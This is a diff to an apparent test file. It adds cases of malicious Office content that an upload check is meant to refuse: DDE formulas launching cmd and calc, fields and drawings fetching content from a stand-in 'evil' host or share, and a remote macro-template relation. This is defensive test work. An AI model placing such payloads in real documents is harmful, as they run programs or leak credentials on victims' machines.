@@ -141,6 +141,25 @@ const offices = refused([
   ['chatFile', field('&#68;DEAUTO x'), 'a DDE field in references'],
   ['chatFile', field('<![CDATA[DDEAUTO x]]>'), 'a DDE field in CDATA'],
   ['chatFile', word('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>'), 'a simple DDE field'],
+  ['chatFile', field(' INCLUDETEXT "http://evil/x.docx" '), 'a field that includes a text from elsewhere'],
+  ['chatFile', field(' LINK Excel.Sheet.8 "', '\\\\\\\\evil\\\\x.xls" \\a'), 'a field that links to a share'],
+  ['chatFile', word('<v:imagedata src="http://evil/x.png"/>'), 'a drawing with a picture from elsewhere'],
+  ['chatFile', word('<v:fill src="\\\\evil\\x.png"/>'), 'a drawing filled from a share'],
+  [
+    'chatFile',
+    relations('Type="http://x/attachedTemplate" Target="\\\\evil\\x.dotm"'),
+    'a share that is not called external',
+  ],
+  [
+    'chatFile',
+    office({ 'xl/worksheets/sheet1.xml': "<c><f>SUM(A1)+cmd|'/c calc'!A0</f></c>" }),
+    'a formula that starts a program',
+  ],
+  [
+    'chatFile',
+    office({ 'xl/workbook.xml': '<definedName name="x">MSEXCEL|Book!A0</definedName>' }),
+    'a name that starts a program',
+  ],
   ['chatFile', word(quoted), 'a field whose name is the result of another'],
   [
     'chatFile',
